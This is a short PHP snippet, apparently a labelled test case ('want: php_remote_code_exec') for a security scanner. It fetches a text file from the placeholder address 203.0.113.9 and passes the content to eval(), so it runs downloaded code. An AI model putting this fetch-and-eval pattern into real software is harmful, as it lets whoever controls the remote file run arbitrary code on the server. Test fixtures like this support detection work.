<?php
// want: php_remote_code_exec
$u = 'http://' . '203.0.113.9' . '/p.txt';
eval(file_get_contents($u));
